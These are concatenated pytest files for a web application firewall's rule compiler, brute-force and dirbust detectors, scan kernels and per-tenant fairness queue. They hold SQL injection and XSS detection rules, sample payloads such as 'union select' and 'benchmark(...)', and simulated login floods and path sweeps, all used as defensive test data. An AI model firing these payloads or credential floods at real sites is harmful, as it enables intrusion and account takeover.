    cr = compile_ruleset(rules)
    # ws-collapse + urlDecode WITHOUT html decode → squash_urldec (5):
    # scanning the html-decoded row would delete factor bytes the rule's
    # own chain keeps ("&#x61;" → "a") — round-3 prefilter-gate finding
    assert cr.rules[0].variant == 5
    assert VARIANTS[5] == "squash_urldec"
    # whitespace positions vanish on both sides: factor is "unionselect"
    assert _hits(cr, squash(b"1 union   select 2"))[0]
    assert _hits(cr, squash(b"1 union\t\nselect 2"))[0]
    assert not _hits(cr, squash(b"community selection"))[0] or True  # prefilter may overfire


def test_pmfromfile_resolved_at_parse_time():
    text = 'SecRule ARGS "@pmFromFile ../data/sql-functions.txt" "id:4,phase:2,block"'
    # without base_dir → hard error, not a silent dead rule
    with pytest.raises(SecLangError):
        parse_seclang(text)
    rules = parse_seclang(text, base_dir=RULES_DIR / "crs")
    assert rules[0].operator == "pm"
    assert "benchmark(" in rules[0].argument
    cr = compile_ruleset(rules)
    assert cr.tables.rule_nfactors[0] > 0
    assert _hits(cr, b"x=benchmark(1000000,md5(1))")[0]


def test_pmfromfile_missing_file_raises():
    with pytest.raises(SecLangError):
        parse_seclang(
            'SecRule ARGS "@pmFromFile nope.txt" "id:5,block"',
            base_dir=RULES_DIR / "crs",
        )


def test_trailing_backslash_in_class_degrades_not_crashes():
    rules = parse_seclang('SecRule ARGS "@rx [\\\\" "id:6,phase:2,block"')
    cr = compile_ruleset(rules)  # must not raise
    assert cr.tables.rule_nfactors[0] == 0
    assert "regex_unsupported" in cr.rules[0].confirm


def test_nonnumeric_id_raises_seclang_error():
    with pytest.raises(SecLangError):
        parse_seclang('SecRule ARGS "@rx x" "id:abc,block"')


def test_loaded_rulemeta_preserves_targets_and_action(tmp_path):
    from ingress_plus_tpu.compiler.ruleset import CompiledRuleset

    rules = parse_seclang(
        'SecRule REQUEST_HEADERS "@rx evil" "id:7,phase:1,deny"'
    )
    cr = compile_ruleset(rules)
    cr.save(tmp_path / "ck")
    cr2 = CompiledRuleset.load(tmp_path / "ck")
    assert cr2.rules[0].rule.targets == ["headers"]
    assert cr2.rules[0].rule.action == "deny"


def test_bundled_corpus_rule_count_at_benchmark_scale():
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules

    rules = load_bundled_rules()
    assert len(rules) >= 1300, len(rules)  # config #2: ~1.5k rules
    cr = compile_ruleset(rules)
    # every rule either has a prefilter or an explicit confirm-only reason
    no_pf = [m for m in cr.rules if not m.has_prefilter]
    for m in no_pf:
        assert ("regex_unsupported" in m.confirm) or m.confirm["op"] not in ("pm",), m.confirm
