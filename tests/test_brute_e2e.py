"""Brute/dirbust detection end to end (VERDICT r04 item #9): a replayed
login flood through the REAL serve loop (UDS wire, PostChannel,
exporter drain) must surface a "brute" event in the attack export with
rate evidence points, a wordlist sweep must surface "dirbust", and both
must feed the per-application counters on /wallarm-status — the wruby
`brute-detect`† cadence (SURVEY.md §2.3) wired to real traffic, not a
unit-level detector call.
"""

import json
import os
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent

RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
"""

PORT = 19911


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("brute")
    rules_dir = tmp / "rules"
    rules_dir.mkdir()
    (rules_dir / "tiny.conf").write_text(RULES)
    sock = str(tmp / "ipt.sock")
    spool = tmp / "spool"
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
    # stderr to a FILE, not a pipe: an undrained pipe buffer can block
    # the serve process mid-run and hang the module (review finding)
    errlog = (tmp / "serve.err").open("w")
    proc = subprocess.Popen(
        [sys.executable, "-m", "ingress_plus_tpu.serve",
         "--socket", sock, "--http-port", str(PORT),
         "--rules-dir", str(rules_dir), "--platform", "cpu",
         "--max-delay-us", "1000", "--no-warmup",
         "--spool-dir", str(spool), "--export-interval-s", "0.3",
         "--brute-threshold", "8", "--brute-window-s", "60",
         "--dirbust-threshold", "12"],
        cwd=str(REPO), env=env, stderr=errlog, text=True)
    for _ in range(600):
        if Path(sock).exists():
            try:
                c = socket.socket(socket.AF_UNIX)
                c.connect(sock)
                c.close()
                break
            except OSError:
                pass
        if proc.poll() is not None:
            raise RuntimeError(
                "server died: %s" % (tmp / "serve.err").read_text())
        time.sleep(0.1)
    else:
        proc.kill()
        raise RuntimeError("server socket never appeared")

    class S:
        pass

    s = S()
    s.sock, s.spool = sock, spool
    yield s
    proc.terminate()
    proc.wait(timeout=10)


def _replay(sock_path, requests_with_ids):
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response, encode_request)

    s = socket.socket(socket.AF_UNIX)
    s.connect(sock_path)
    for req, rid in requests_with_ids:
        s.sendall(encode_request(req, req_id=rid))
    reader = FrameReader(RESP_MAGIC)
    got = {}
    s.settimeout(120)
    while len(got) < len(requests_with_ids):
        frames = reader.feed(s.recv(65536))
        for f in frames:
            r = decode_response(f)
            got[r["req_id"]] = r
    s.close()
    return got


def _spool_records(spool, want_class, timeout_s=15.0):
    deadline = time.time() + timeout_s
    while time.time() < deadline:
        recs = []
        for f in sorted(spool.glob("attacks*.jsonl")):
            recs += [json.loads(l) for l in
                     f.read_text().splitlines() if l.strip()]
        hits = [r for r in recs if r["class"] == want_class]
        if hits:
            return hits
        time.sleep(0.25)
    return []


def test_login_flood_raises_brute_event(server):
    from ingress_plus_tpu.serve.normalize import Request

    flood = []
    for i in range(12):
        body = b"user=admin&pass=hunter%d" % i
        flood.append((Request(
            method="POST", uri="/account/login",
            headers={"host": "shop.example.com",
                     "x-real-ip": "203.0.113.77",
                     "content-type": "application/x-www-form-urlencoded"},
            body=body, request_id="flood-%d" % i), 8000 + i))
    got = _replay(server.sock, flood)
    # each individual login attempt is CLEAN — credential stuffing is
    # not per-request detectable, which is the whole point of the
    # rate detector
    assert not any(v["attack"] for v in got.values())

    brutes = _spool_records(server.spool, "brute")
    assert brutes, "no brute event reached the export"
    b = brutes[0]
    assert b["client"] == "203.0.113.77"
    assert b["count"] >= 8
    assert any("/account/login" in u for u in b["sample_uris"])
    # rate evidence rides the matched-points channel
    assert b["sample_points"] and \
        b["sample_points"][0]["var"] == "RATE:/account/login"
    assert "requests in" in b["sample_points"][0]["value"]


def test_wordlist_sweep_raises_dirbust_event(server):
    from ingress_plus_tpu.serve.normalize import Request

    sweep = []
    for i in range(15):
        sweep.append((Request(
            uri="/backup/%02d/config.old" % i,
            headers={"host": "shop.example.com",
                     "x-real-ip": "198.51.100.9"},
            request_id="sweep-%d" % i), 8100 + i))
    got = _replay(server.sock, sweep)
    assert not any(v["attack"] for v in got.values())

    events = _spool_records(server.spool, "dirbust")
    assert events, "no dirbust event reached the export"
    d = events[0]
    assert d["client"] == "198.51.100.9"
    assert d["sample_points"][0]["var"] == "SWEEP"
    assert "distinct paths" in d["sample_points"][0]["value"]


def test_rate_events_feed_status_counters(server):
    """The exported brute/dirbust events appear in the per-application
    counters (/wallarm-status export_events) — the collectd-scrape
    analog carries the rate detections, not just verdict classes."""
    deadline = time.time() + 15
    while time.time() < deadline:
        st = json.loads(urllib.request.urlopen(
            "http://127.0.0.1:%d/wallarm-status" % PORT,
            timeout=10).read())
        ev = st.get("export_events", {})
        if ev.get("brute") and ev.get("dirbust"):
            break
        time.sleep(0.25)
    assert ev.get("brute", 0) >= 1
    assert ev.get("dirbust", 0) >= 1
    # keyed per application too
    assert ev.get("brute:0", 0) >= 1
