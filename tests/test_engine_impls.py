"""Scan-implementation selection: pair/take/pallas must be
indistinguishable at the rule-hit level, and the auto-select must
install a working impl (VERDICT round-1: the Pallas kernel must sit in
the serving path, not beside it)."""

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.models.engine import DetectionEngine
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.utils.corpus import generate_corpus


@pytest.fixture(scope="module")
def ruleset():
    return compile_ruleset(load_bundled_rules())


def _verdict_tuple(v):
    return (v.attack, v.blocked, tuple(sorted(v.rule_ids)), v.score)


@pytest.mark.parametrize("impl", ["take", "pallas", "pallas2",
                                  "pallas3"])
def test_impl_verdict_parity_with_pair(ruleset, impl):
    """Every impl produces identical verdicts on a mixed corpus (pallas
    runs in interpret mode on the CPU test backend — same kernel code
    path as the TPU lowering)."""
    reqs = [lr.request for lr in generate_corpus(n=48, seed=11)]

    ref = DetectionPipeline(ruleset, mode="block", scan_impl="pair")
    want = [_verdict_tuple(v) for v in ref.detect(reqs)]

    p = DetectionPipeline(ruleset, mode="block", scan_impl=impl,
                          fail_open=False)
    p.engine.pallas_interpret = True
    got = [_verdict_tuple(v) for v in p.detect(reqs)]
    assert got == want


def test_autoselect_installs_fastest(ruleset):
    eng = DetectionEngine(ruleset)
    eng.pallas_interpret = True
    # CPU backend: pallas excluded by default; both remaining impls run
    timings = eng.autoselect_scan_impl(B=32, L=64, n=1)
    assert set(timings) == {"pair", "take"}
    assert eng.scan_impl == min(timings, key=timings.get)
    assert all(t > 0 for t in timings.values())


def test_scan_impl_survives_hot_swap(ruleset):
    from ingress_plus_tpu.serve.batcher import Batcher

    p = DetectionPipeline(ruleset, mode="block", scan_impl="take")
    b = Batcher(p, max_batch=8, max_delay_s=0.001)
    try:
        b.swap_ruleset(ruleset)
        assert b.pipeline.engine.scan_impl == "take"
        v = b.submit(Request(uri="/q?a=1+union+select+2")).result(timeout=60)
        assert v.attack
    finally:
        b.close()
