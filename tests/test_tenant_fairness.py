"""Tenant isolation (docs/ROBUSTNESS.md "Tenant isolation"): the
deficit-round-robin fair admission queue, per-tenant deadline charging,
the flood guard's quarantine hysteresis, the tenant-degraded pipeline
rung, the /tenants + metrics + dbg surfaces, and tenant-targeted fault
injection.

The invariant under test: one tenant's flood degrades only THAT tenant
— victims keep real, un-degraded verdicts, the global brownout ladder
stays down, and the single-tenant serve path is byte-identical to the
pre-tenant behavior.
"""

import asyncio
import json
import queue as queue_mod
import time

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.control.dbg import render_tenants
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.models.tenant_guard import (
    OVERFLOW,
    TenantGuard,
    TenantGuardConfig,
    parse_tenant_weights,
)
from ingress_plus_tpu.serve.batcher import (
    Batcher,
    TenantFull,
    _TenantFairQueue,
)
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.serve.server import ServeLoop
from ingress_plus_tpu.utils import faults
from ingress_plus_tpu.utils.faults import ATTACK_URI, FaultPlan

RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_URI|ARGS "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
"""


@pytest.fixture(scope="module")
def cr():
    return compile_ruleset(parse_seclang(RULES))


@pytest.fixture(autouse=True)
def _no_leftover_plan():
    faults.clear()
    yield
    faults.clear()


def _mk_batcher(cr, **kw):
    kw.setdefault("max_batch", 16)
    kw.setdefault("max_delay_s", 0.001)
    b = Batcher(DetectionPipeline(cr, mode="block"), **kw)
    warm = [Request(uri="/w%d" % i, request_id="w%d" % i)
            for i in range(kw["max_batch"])]
    for size in (1, 4, kw["max_batch"]):
        b.pipeline.detect(warm[:size])
    return b


def _reqs(n, attack_every=0, tag="r", tenant=0, body=b""):
    out = []
    for i in range(n):
        uri = (ATTACK_URI if attack_every and i % attack_every == 0
               else "/benign?i=%d" % i)
        out.append(Request(uri=uri, request_id="%s%d" % (tag, i),
                           tenant=tenant, body=body))
    return out


# ------------------------------------------------------ DRR fair queue

def test_fair_queue_single_tenant_fifo_no_drr_state():
    """One tenant: plain FIFO drain, no deficit bookkeeping on the pop
    path, and the multi-tenant flag stays down — the allocation-free
    fast path the single-tenant A/B budget is pinned against."""
    q = _TenantFairQueue(100)
    for i in range(10):
        q.put_nowait(("req", 0.0, i, None), tenant=0, cost_bytes=i * 999)
    assert [q.get_nowait()[2] for i in range(10)] == list(range(10))
    assert not q.seen_multi
    assert not q._qs and not q._deficit   # fully drained, state empty
    with pytest.raises(queue_mod.Empty):
        q.get_nowait()


def test_fair_queue_drr_interleaves_small_requests():
    """A 10x-volume tenant cannot monopolize the drain order: while
    both tenants have backlog, small items alternate ~1:1 per round."""
    q = _TenantFairQueue(1000)
    for i in range(20):
        q.put_nowait(("req", 0.0, ("flood", i), None), tenant=1)
    for i in range(4):
        q.put_nowait(("req", 0.0, ("victim", i), None), tenant=2)
    first8 = [q.get_nowait()[2][0] for _ in range(8)]
    # victim items must not languish behind the flood: all 4 pop within
    # the first 8 items (strict alternation modulo the initial grant)
    assert first8.count("victim") == 4, first8
    assert q.seen_multi


def test_fair_queue_byte_weighted_costs():
    """A tenant with big bodies consumes its quantum in bytes: the
    small-request tenant drains MORE ITEMS per round even though both
    have equal weights."""
    q = _TenantFairQueue(1000)
    for i in range(4):
        q.put_nowait(("req", 0.0, ("big", i), None), tenant=1,
                     cost_bytes=16384)   # ~2 units each
    for i in range(8):
        q.put_nowait(("req", 0.0, ("small", i), None), tenant=2,
                     cost_bytes=0)       # 1 unit each
    order = [q.get_nowait()[2][0] for _ in range(12)]
    # after the first 8 pops the small tenant must have drained at
    # least as many items as the byte-heavy one
    assert order[:8].count("small") >= order[:8].count("big"), order


def test_fair_queue_weights_scale_rounds():
    """A weight-3 tenant drains ~3x the items per round at equal item
    cost."""
    q = _TenantFairQueue(1000, weights={1: 3.0})
    for i in range(12):
        q.put_nowait(("req", 0.0, ("w3", i), None), tenant=1)
    for i in range(12):
        q.put_nowait(("req", 0.0, ("w1", i), None), tenant=2)
    first8 = [q.get_nowait()[2][0] for _ in range(8)]
    assert first8.count("w3") >= 5, first8


def test_fair_queue_caps():
    """Global cap raises queue.Full; the per-tenant cap raises the
    TenantFull subclass (distinct shed reasons upstream)."""
    q = _TenantFairQueue(8, tenant_cap=3)
    for i in range(3):
        q.put_nowait(("req", 0.0, i, None), tenant=1)
    with pytest.raises(TenantFull):
        q.put_nowait(("req", 0.0, 99, None), tenant=1)
    for i in range(3):
        q.put_nowait(("req", 0.0, i, None), tenant=2)
    q.put_nowait(("req", 0.0, 0, None), tenant=3)
    q.put_nowait(("req", 0.0, 1, None), tenant=3)
    with pytest.raises(queue_mod.Full):
        q.put_nowait(("req", 0.0, 2, None), tenant=4)   # global cap 8
    assert q.qsize() == 8
    assert q.depths() == {1: 3, 2: 3, 3: 2}


def test_fair_queue_effective_depth_math():
    q = _TenantFairQueue(100)
    for i in range(6):
        q.put_nowait(("req", 0.0, i, None), tenant=1)
    # single active tenant: own backlog, the PR 4 global math
    assert q.effective_depth(1) == 6
    assert q.effective_depth(2) == 0     # empty sub-queue never sheds
    for i in range(2):
        q.put_nowait(("req", 0.0, i, None), tenant=2)
    # tenant 2: own 2 + min(others=6, (2+1)*1 interleave bound)=3
    assert q.effective_depth(2) == 5
    # tenant 1: own 6 + min(2, 7) = 8
    assert q.effective_depth(1) == 8
    # excluding tenant 1's backlog (quarantined): tenant 2 sees only
    # its own items
    assert q.effective_depth(2, exclude=(1,)) == 2


def test_parse_tenant_weights():
    assert parse_tenant_weights(None) == {}
    assert parse_tenant_weights("1:4,7:0.5") == {1: 4.0, 7: 0.5}
    assert parse_tenant_weights("3:0") == {3: 0.01}   # floored positive
    with pytest.raises(ValueError):
        parse_tenant_weights("nonsense")


# ------------------------------------------------- single-tenant parity

def test_single_tenant_verdicts_match_direct_detect(cr):
    """The fair-queue serve path must not change single-tenant verdicts
    in any observable field vs a direct pipeline.detect of the same
    corpus (the clean-path byte-identical contract)."""
    b = _mk_batcher(cr)
    try:
        reqs = _reqs(24, attack_every=3, tag="par")
        futs = [b.submit(r) for r in reqs]
        got = {f.result(timeout=60).request_id: f.result() for f in futs}
        ref = DetectionPipeline(cr, mode="block")
        for r, want in zip(reqs, ref.detect(reqs)):
            v = got[r.request_id]
            assert (v.attack, v.blocked, sorted(v.rule_ids), v.score,
                    v.fail_open, v.degraded) == \
                (want.attack, want.blocked, sorted(want.rule_ids),
                 want.score, False, False), r.request_id
        # fast path held: one tenant ever seen, no guard activity
        assert not b._q.seen_multi
        assert not b.tenant_guard.is_quarantined(0)
        assert b.pipeline.load_controller.steps_up == 0
    finally:
        b.close()


# -------------------------------------------------- admission isolation

def test_victim_admits_while_flooder_sheds(cr):
    """Burst 64 hostile requests against a tenant cap of 8: the hostile
    tenant sheds tenant_queue_full while every victim request admits
    and serves a real verdict — the same-cycle isolation assert."""
    b = _mk_batcher(cr, tenant_queue_cap=8, queue_cap=256)
    try:
        hfuts = [b.submit(r) for r in _reqs(64, tag="h", tenant=7)]
        vfuts = [b.submit(r) for r in _reqs(6, attack_every=2, tag="v",
                                            tenant=3)]
        vs = [f.result(timeout=60) for f in vfuts]
        assert all(not v.fail_open and not v.degraded for v in vs)
        assert any(v.attack for v in vs)
        hs = [f.result(timeout=60) for f in hfuts]
        assert any(v.fail_open for v in hs)      # the burst shed
        shed = dict(b.pipeline.stats.shed)
        assert shed.get("tenant_queue_full", 0) > 0
        g = b.tenant_guard
        snap = g.snapshot()
        row = {r["tenant"]: r for r in snap["tenants"]}
        assert row[7]["shed"] > 0
        assert row.get(3, {"shed": 0})["shed"] == 0
    finally:
        b.close()


def test_close_drains_tenant_subqueues_fail_open(cr):
    """Batcher.close() must drain EVERY per-tenant sub-queue fail-open
    (the PR 4 stranded-handler contract extended to the new queues) —
    no future may strand, every drain books shed{shutdown}."""
    b = _mk_batcher(cr)
    # park the dispatch loop so submissions stay queued
    b._stop.set()
    b._thread.join(timeout=5)
    assert not b._thread.is_alive()
    futs = []
    for tenant in (0, 5, 9):
        futs += [b.submit(r)
                 for r in _reqs(4, tag="t%d" % tenant, tenant=tenant)]
    assert b.queue_depth() == 12
    b.close()
    for f in futs:
        v = f.result(timeout=5)     # resolved, not stranded
        assert v.fail_open and not v.blocked
    assert b.pipeline.stats.shed.get("shutdown", 0) >= 12
    snap = b.tenant_guard.snapshot()
    rows = {r["tenant"]: r for r in snap["tenants"]}
    for tenant in (0, 5, 9):
        assert rows[tenant]["shed_reasons"].get("shutdown", 0) == 4


# ------------------------------------------------------- tenant guard

def _drive_window(g, tenant_arrivals, now, depth=0, sheds=()):
    """Feed one guard window: arrivals per tenant, optional sheds, then
    advance past the window edge to force the fold."""
    for tenant, n in tenant_arrivals.items():
        for _ in range(n):
            g.observe_arrival(tenant, depth=depth, now=now)
    for tenant, n in dict(sheds).items():
        for _ in range(n):
            g.on_shed(tenant, "tenant_queue_full")
    # the fold fires on the first arrival past the window edge
    g.observe_arrival(next(iter(tenant_arrivals)), now=now + 1.0)
    return now + 1.0


def test_guard_quarantine_hysteresis_and_release():
    g = TenantGuard(TenantGuardConfig(window_s=0.5, max_share=0.5,
                                      min_window_arrivals=10,
                                      up_confirm_windows=2, dwell_s=3.0))
    now = 100.0
    # window 1: breach #1 (90% share + sheds) — NOT quarantined yet
    now = _drive_window(g, {1: 18, 2: 2}, now, sheds={1: 4})
    assert not g.is_quarantined(1)
    # window 2: breach #2 — quarantined (up_confirm_windows=2)
    now = _drive_window(g, {1: 18, 2: 2}, now, sheds={1: 4})
    assert g.is_quarantined(1)
    assert not g.is_quarantined(2)
    assert g.level(1) == 1 and g.level(2) == 0
    assert g.quarantines == 1
    # clean window inside the dwell: STAYS quarantined (flap damper)
    now = _drive_window(g, {1: 3, 2: 3}, now)
    assert g.is_quarantined(1)
    # after the dwell with no breach: released
    now = _drive_window(g, {1: 3, 2: 3}, now + 3.5)
    assert not g.is_quarantined(1)
    assert g.releases == 1


def test_guard_single_active_tenant_never_quarantines():
    """With one tenant on the box the global ladder is the authority —
    100% share must never quarantine (single-tenant path untouched)."""
    g = TenantGuard(TenantGuardConfig(window_s=0.5, up_confirm_windows=1,
                                      min_window_arrivals=10))
    now = 50.0
    for _ in range(4):
        now = _drive_window(g, {0: 40}, now, sheds={0: 10})
    assert not g.is_quarantined(0)
    assert g.quarantines == 0


def test_guard_no_damage_no_quarantine():
    """Share alone is not abuse: a 90%-share tenant that neither sheds
    nor backs up its sub-queue is just the busiest tenant."""
    g = TenantGuard(TenantGuardConfig(window_s=0.5, up_confirm_windows=1,
                                      min_window_arrivals=10))
    now = 50.0
    for _ in range(4):
        now = _drive_window(g, {1: 18, 2: 2}, now)
    assert not g.is_quarantined(1)


def test_guard_fail_open_policy_level():
    g = TenantGuard(TenantGuardConfig(window_s=0.5, up_confirm_windows=1,
                                      min_window_arrivals=10,
                                      policy="fail_open"))
    now = 10.0
    now = _drive_window(g, {1: 18, 2: 2}, now, sheds={1: 2})
    assert g.level(1) == 2
    with pytest.raises(ValueError):
        TenantGuard(TenantGuardConfig(policy="nonsense"))


def test_guard_overflow_bucket_never_quarantined():
    g = TenantGuard(TenantGuardConfig(window_s=0.5, max_tracked=2,
                                      up_confirm_windows=1,
                                      min_window_arrivals=10))
    now = 10.0
    # tenants 50/51 land in the shared OVERFLOW bucket (max_tracked=2
    # slots already taken), which breaches on share but must not
    # quarantine
    for _ in range(3):
        for t, n in ((1, 1), (2, 1), (50, 9), (51, 9)):
            for _i in range(n):
                g.observe_arrival(t, now=now)
        g.on_shed(50, "queue_full")
        now += 1.0
        g.observe_arrival(1, now=now)
    assert OVERFLOW in g._states
    assert not g.is_quarantined(OVERFLOW)
    assert g.quarantines == 0


# --------------------------------------------- tenant-degraded serving

def test_detect_tenant_degraded_prefilter_only(cr):
    p = DetectionPipeline(cr, mode="block")
    reqs = [Request(uri=ATTACK_URI, request_id="a", tenant=4),
            Request(uri="/benign", request_id="b", tenant=4)]
    vs = p.detect_tenant_degraded(reqs)
    assert all(v.degraded for v in vs)
    assert all(not v.blocked for v in vs)      # degraded never blocks
    assert vs[0].attack and not vs[1].attack   # candidates still score
    assert vs[0].generation == p.generation_tag
    assert p.stats.degraded == 2


def test_quarantined_tenant_served_degraded_victims_full(cr):
    """End-to-end through the batcher: force a quarantine, then assert
    the quarantined tenant's admitted traffic comes back degraded
    (prefilter-only — flags, never blocks) while the victim tenant's
    verdicts stay full-detection in the same cycles."""
    b = _mk_batcher(cr, tenant_queue_cap=16, queue_cap=256,
                    tenant_guard=TenantGuardConfig(
                        window_s=0.1, up_confirm_windows=1, dwell_s=30.0,
                        min_window_arrivals=8))
    try:
        # breach: two bursts of 90%-share hostile traffic with cap sheds
        for wave in range(4):
            futs = [b.submit(r) for r in _reqs(40, tag="q%d" % wave,
                                               tenant=1)]
            futs += [b.submit(r) for r in _reqs(2, tag="qv%d" % wave,
                                                tenant=0)]
            [f.result(timeout=60) for f in futs]
            if b.tenant_guard.is_quarantined(1):
                break
            time.sleep(0.12)
        assert b.tenant_guard.is_quarantined(1)
        hfuts = [b.submit(r) for r in _reqs(8, attack_every=2, tag="qd",
                                            tenant=1)]
        vfuts = [b.submit(r) for r in _reqs(8, attack_every=2, tag="qf",
                                            tenant=0)]
        hs = [f.result(timeout=60) for f in hfuts]
        vs = [f.result(timeout=60) for f in vfuts]
        # hostile: every served verdict degraded, attacks flagged but
        # NEVER blocked (prefilter-only contract)
        assert all(v.degraded for v in hs)
        assert any(v.attack for v in hs)
        assert all(not v.blocked for v in hs)
        # victim: full detection, blocking verdicts intact
        assert all(not v.degraded and not v.fail_open for v in vs)
        assert any(v.blocked for v in vs)
        assert b.pipeline.stats.degraded > 0
        snap = b.tenant_guard.snapshot()
        row = {r["tenant"]: r for r in snap["tenants"]}
        assert row[1]["degraded"] > 0
        assert row[0]["degraded"] == 0
    finally:
        b.close()


# ------------------------------------------------- ladder fair signal

def _item(tenant, ts, rid="x"):
    return ("req", ts, Request(uri="/", request_id=rid, tenant=tenant),
            None)


def test_ladder_signal_single_vs_multi(cr):
    b = _mk_batcher(cr)
    try:
        t0 = 10.0
        batch = [_item(0, 9.0), _item(0, 9.5)]
        # single-tenant path: max wait (PR 4 signal) = 1s
        assert b._ladder_signal(batch, t0) == pytest.approx(1e6)
        b._q.seen_multi = True
        # multi-tenant: min over per-tenant max — victim waited 0.1s,
        # flooder 1s → the ladder sees 0.1s (no systemic pressure)
        batch = [_item(1, 9.0), _item(1, 9.3), _item(2, 9.9)]
        assert b._ladder_signal(batch, t0) == pytest.approx(0.1e6)
        # quarantined flooder excluded entirely
        b.tenant_guard._quarantined[1] = 0.0
        assert b._ladder_signal(batch, t0) == pytest.approx(0.1e6)
        batch = [_item(1, 9.0)]     # only quarantined traffic → zero
        assert b._ladder_signal(batch, t0) == 0.0
        # aggregate pressure: EVERY tenant delayed → signal is real
        batch = [_item(2, 9.0), _item(3, 9.1)]
        assert b._ladder_signal(batch, t0) == pytest.approx(0.9e6)
    finally:
        b.close()


def test_ladder_signal_fair_with_guard_off(cr):
    """--tenant-guard off disables quarantining, NOT fairness: the
    ladder still sees the min over tenants, so a single-tenant flood
    cannot brown out the box even with the guard disabled."""
    b = _mk_batcher(cr, tenant_guard="off")
    try:
        b._q.seen_multi = True
        batch = [_item(1, 9.0), _item(1, 9.2), _item(2, 9.9)]
        assert b._ladder_signal(batch, 10.0) == pytest.approx(0.1e6)
    finally:
        b.close()


def test_quarantined_tenant_streams_fail_open(cr):
    """Stream traffic is visible to the guard: begins count arrivals,
    and a quarantined tenant's NEW streams are poisoned at begin (fail
    open at finish, charged to the tenant) while a victim's stream
    keeps full detection."""
    b = _mk_batcher(cr)
    try:
        g = b.tenant_guard
        g._quarantined[4] = 0.0
        h = b.begin_stream(Request(uri="/s", request_id="s1", tenant=4))
        assert h.error                      # poisoned at begin
        b.feed_chunk(h, b"1 union select 2")
        v = b.finish_stream(h).result(timeout=30)
        assert v.fail_open and not v.blocked
        rows = {r["tenant"]: r for r in g.snapshot()["tenants"]}
        assert rows[4]["shed_reasons"].get("tenant_flood", 0) >= 1
        assert rows[4]["admitted"] == 0     # arrival counted, not admit
        # the victim tenant's stream is untouched: full detection
        h2 = b.begin_stream(Request(uri="/s2", request_id="s2",
                                    tenant=0))
        assert not h2.error
        b.feed_chunk(h2, b"1 union select 2")
        v2 = b.finish_stream(h2).result(timeout=60)
        assert v2.attack and not v2.fail_open
    finally:
        b.close()


def test_oversized_side_lane_per_tenant_cap(cr):
    """One tenant may hold at most half the oversized side-lane slots:
    past that its oversized bodies fail open (charged to it) while a
    sibling tenant's oversized request still serves."""
    from concurrent.futures import Future

    b = _mk_batcher(cr)
    try:
        cap = max(1, b._oversized_q.maxsize // 2)
        # simulate the hostile tenant already holding its cap
        b._oversized_by_tenant[7] = cap
        fut: Future = Future()
        r = Request(uri="/big", request_id="ov1", tenant=7, body=b"x")
        b._submit_oversized(0.0, r, ("raw", r.body, r.headers), fut)
        v = fut.result(timeout=1)
        assert v.fail_open
        assert b.pipeline.stats.shed.get("oversized_overload", 0) == 1
        rows = {row["tenant"]: row
                for row in b.tenant_guard.snapshot()["tenants"]}
        assert rows[7]["shed_reasons"].get("oversized_overload", 0) == 1
        # a sibling tenant admits into the side lane and gets a verdict
        fut2: Future = Future()
        r2 = Request(uri="/big2", request_id="ov2", tenant=3,
                     body=b"1 union select 2")
        b._submit_oversized(0.0, r2, ("raw", r2.body, r2.headers), fut2)
        v2 = fut2.result(timeout=60)
        assert not v2.fail_open
    finally:
        b.close()


def test_guard_thread_safety_under_concurrent_submits():
    """TenantGuard is driven from every submit thread (the tenant-iso
    bench floods from a second thread): concurrent arrivals + folds +
    quarantined_ids() iteration must never raise."""
    import threading as _t

    g = TenantGuard(TenantGuardConfig(window_s=0.001,
                                      min_window_arrivals=4,
                                      up_confirm_windows=1))
    errs: list = []

    def pump(tenant):
        try:
            for i in range(4000):
                g.observe_arrival(tenant, depth=i % 50)
                if i % 3 == 0:
                    g.on_shed(tenant, "queue_full")
                tuple(g.quarantined_ids())
        except Exception as e:  # noqa: BLE001 — the failure under test
            errs.append(e)

    threads = [_t.Thread(target=pump, args=(t,)) for t in (1, 2, 3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errs, errs


# ------------------------------------------ endpoints / metrics / dbg

def test_tenants_endpoint_metrics_and_dbg_render(cr):
    b = _mk_batcher(cr, tenant_queue_cap=8)
    serve = ServeLoop(b, "/tmp/ipt-tenant-test.sock")
    try:
        futs = [b.submit(r) for r in _reqs(8, tag="m0", tenant=0)]
        futs += [b.submit(r) for r in _reqs(24, tag="m1", tenant=1)]
        [f.result(timeout=60) for f in futs]

        st, _ct, body = asyncio.run(
            serve._route_http("GET", "/tenants", b""))
        assert st.startswith("200")
        tj = json.loads(body)
        assert tj["enabled"]
        assert tj["queue"]["tenant_cap"] == 8
        rows = {r["tenant"]: r for r in tj["guard"]["tenants"]}
        assert rows[1]["shed"] > 0          # the burst shed
        assert rows[0]["shed"] == 0
        assert any(e["key"] == "1" for e in tj["top_offenders"])
        assert tj["sketch"]["capacity"] == 32

        text = serve._metrics_text()
        assert 'ipt_tenant_shed_total{tenant="1"}' in text
        assert 'ipt_tenant_admitted_total{tenant="0"}' in text
        assert "ipt_tenant_tracked 2" in text
        assert "ipt_tenant_quarantined 0" in text

        st, _ct, body = asyncio.run(
            serve._route_http("GET", "/healthz", b""))
        h = json.loads(body)
        assert h["robustness"]["tenant_guard"]["policy"] == \
            "prefilter_only"

        out = render_tenants(tj)
